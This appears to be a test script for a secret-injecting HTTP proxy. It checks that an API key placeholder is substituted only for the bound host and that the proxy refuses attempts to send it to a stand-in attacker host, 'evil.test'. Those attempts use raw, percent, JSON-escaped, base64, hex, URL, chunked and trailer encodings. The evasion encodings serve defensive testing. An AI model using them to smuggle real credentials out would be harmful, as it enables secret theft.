"""Secrets through the whole broker, and every way to get at one: run by proxy_secrets.sh."""
import base64
import os
import tempfile
import urllib.parse

from broker import Authority, Broker, Server, Tap, bundle, read_message, read_until

tap = Tap()
authority = Authority(tempfile.mkdtemp(prefix="matchlock-proxy-ca-"))
SECRET = b"sk-ant-api03-RealRealRealReal0123456789-abcdefghijklmnop"
OTHER = b"ghp_0123456789ABCDEFGHIJabcdefghij012345"
seen = []


def serve(connection):
    """Echoes head and body: whatever reached the server comes back, as an attacker's endpoint does."""
    data = b""
    while True:
        data = read_until(connection, b"\r\n\r\n", data)
        if not data:
            return
        head, _, data = data.partition(b"\r\n\r\n")
        length = 0
        for line in head.lower().split(b"\r\n"):
            if line.startswith(b"content-length:"):
                length = int(line.split(b":")[1])
        while len(data) < length:
            more = connection.recv(65536)
            if not more:
                seen.append((head, data + b"<cut>"))
                return
            data += more
        if b"transfer-encoding" in head.lower():
            data = read_until(connection, b"0\r\n\r\n", data)
            length = len(data)
        body, data = data[:length], data[length:]
        seen.append((head, body))
        token = [line for line in head.split(b"\r\n") if line.lower().startswith(b"authorization")]
        echo = head + b"\n" + body + b"\n" + base64.b64encode(token[0] if token else b"") + b"\n" + (
            SECRET.hex().encode() if b"/hex" in head else b"")
        connection.sendall(b"HTTP/1.1 200 OK\r\nX-Echo: " + (token[0] if token else b"") +
                           b"\r\nContent-Length: %d\r\n\r\n" % len(echo))
        for at in range(0, len(echo), 7):
            connection.sendall(echo[at:at + 7])


bound = Server(serve, authority.leaf("api.test"), ["http/1.1"])
elsewhere = Server(serve, authority.leaf("evil.test"), ["http/1.1"])
plain = Server(serve)
broker = Broker([f"api.test:{bound.port}", f"api.test:{plain.port}", f"evil.test:{elsewhere.port}"],
                ["api.test", "evil.test"], authority,
                bundle((b"API_KEY", SECRET, [(b"api.test", 0)], 1), (b"HUB_TOKEN", OTHER, [(b"hub.test", 0)], 1),
                       (b"DECOY", b"AKIAABCDEFGHIJKLMNOP", [], 5)))
placeholder = broker.placeholders["API_KEY"].encode()
tap.ok("a placeholder of the same length, with the vendor's prefix, and another",
       len(placeholder) == len(SECRET) and placeholder.startswith(b"sk-ant-") and placeholder != SECRET, placeholder)


def send(head, body=b"", host="api.test", port=None, tls=True):
    port = port or bound.port
    stream = broker.tls(host, port) if tls else broker.dial(host, port)
    head = b"POST /x HTTP/1.1\r\nHost: %s:%d\r\nContent-Length: %d\r\n%s\r\n\r\n" % (host.encode(), port, len(body), head)
    stream.sendall(head + body)
    return read_message(stream)


seen.clear()
status, fields, body, rest = send(b"Authorization: Bearer " + placeholder)
tap.ok("the server gets the secret", seen and SECRET in seen[0][0], seen)
tap.ok("the guest's echo has only the placeholder, in the head", fields.get("x-echo", "").encode().endswith(placeholder),
       fields)
tap.ok("in the body, and in base64 there", SECRET not in body and placeholder in body and
       base64.b64encode(b"Authorization: Bearer " + placeholder) in body, body)
event = broker.event(kind="request", host="api.test")
tap.ok("the log names it, and does not have it", event and event["secrets"] == "API_KEY" and
       SECRET.decode() not in str(event) and placeholder.decode() not in str(event), event)
status, fields, body, rest = send(b"Authorization: Basic " + base64.b64encode(b"user:" + placeholder))
tap.ok("in Basic too", base64.b64encode(b"user:" + SECRET) in seen[-1][0], seen[-1])
tap.ok("and its echo", base64.b64encode(b"user:" + SECRET) not in body, body)

before = len(seen)
ways = {
    "raw in a header": (b"X-Data: " + placeholder, b""),
    "raw in the body": (b"", b"key=" + placeholder),
    "percent in the body": (b"", b"key=" + b"".join(b"%%%02x" % byte for byte in placeholder)),
    "as JSON in the body": (b"", b'{"key": "' + b"".join(b"\\u%04x" % byte for byte in placeholder) + b'"}'),
    "base64 in the body": (b"", b"x" + base64.b64encode(b"ab" + placeholder + b"cd")),
    "base64 in a header": (b"Authorization: Basic " + base64.b64encode(b"a:" + placeholder), b""),
    "as hexadecimal": (b"", placeholder.hex().encode()),
}
for way, (head, body) in ways.items():
    status, fields, text, rest = send(head or b"X: y", body, "evil.test", elsewhere.port)
    tap.same(f"to another host it is refused: {way}", (403, "secret_wrong_host"),
             (status, fields.get("matchlock-denied")))
    event = broker.event(kind="denial", host="evil.test")
    tap.ok("and the log has it", event and event["reason"] == "secret_wrong_host" and event["secrets"] == "API_KEY", event)
stream = broker.tls("evil.test", elsewhere.port)
stream.sendall(b"GET /?q=" + urllib.parse.quote(placeholder).encode() + b" HTTP/1.1\r\nHost: evil.test:%d\r\n\r\n" %
               elsewhere.port)
status, fields, text, rest = read_message(stream)
tap.same("in a URL", (403, "secret_wrong_host"), (status, fields.get("matchlock-denied")))
stream = broker.tls("evil.test", elsewhere.port)
stream.sendall(b"POST / HTTP/1.1\r\nHost: evil.test:%d\r\nTransfer-Encoding: chunked\r\n\r\n" % elsewhere.port)
for at in range(0, len(placeholder), 5):
    part = placeholder[at:at + 5]
    stream.sendall(b"%x\r\n" % len(part) + part + b"\r\n")
stream.sendall(b"0\r\n\r\n")
status, fields, text, rest = read_message(stream)
tap.same("split over chunks", (403, "secret_wrong_host"), (status, fields.get("matchlock-denied")))
stream = broker.tls("evil.test", elsewhere.port)
stream.sendall(b"POST / HTTP/1.1\r\nHost: evil.test:%d\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\nX-Sum: " %
               elsewhere.port + placeholder + b"\r\n\r\n")
status, fields, text, rest = read_message(stream)
tap.same("in a trailer", (403, "secret_wrong_host"), (status, fields.get("matchlock-denied")))
tail = placeholder[len(b"sk-ant-api03-") + 1:]
tap.ok("nothing of it arrived there whole", not any(tail in head + body for head, body in seen[before:]), seen[before:])

status, fields, text, rest = send(b"Authorization: Bearer " + placeholder, b"", "api.test", plain.port, tls=False)
tap.same("not without TLS", (403, "secret_needs_tls"), (status, fields.get("matchlock-denied")))
status, fields, text, rest = send(b"Authorization: Bearer attackers-own-key-0123456789")
tap.same("a key of the attacker's own is refused where a secret is bound", (403, "foreign_credential"),
         (status, fields.get("matchlock-denied")))
status, fields, text, rest = send(b"X-Data: " + broker.placeholders["DECOY"].encode(), b"", "evil.test", elsewhere.port)
tap.same("a decoy is refused", (403, "canary"), (status, fields.get("matchlock-denied")))
stream = broker.tls("denied.test", 443)
stream.sendall(b"GET / HTTP/1.1\r\nHost: denied.test\r\nX-Data: " + broker.placeholders["DECOY"].encode() + b"\r\n\r\n")
status, fields, text, rest = read_message(stream)
tap.same("as a decoy also where nothing would be allowed", (403, "canary"), (status, fields.get("matchlock-denied")))

process = f"/proc/{broker.process.pid}"
for name in ("cmdline", "environ", "comm"):
    try:
        with open(f"{process}/{name}", "rb") as file:
            text = file.read()
    except PermissionError:
        text = b""
    tap.ok(f"the secret is not in the broker's {name}", SECRET not in text)
tap.ok("nor in the log", SECRET.decode() not in str(broker.events))
tap.same("the broker ends", 0, broker.stop())
tap.finish()
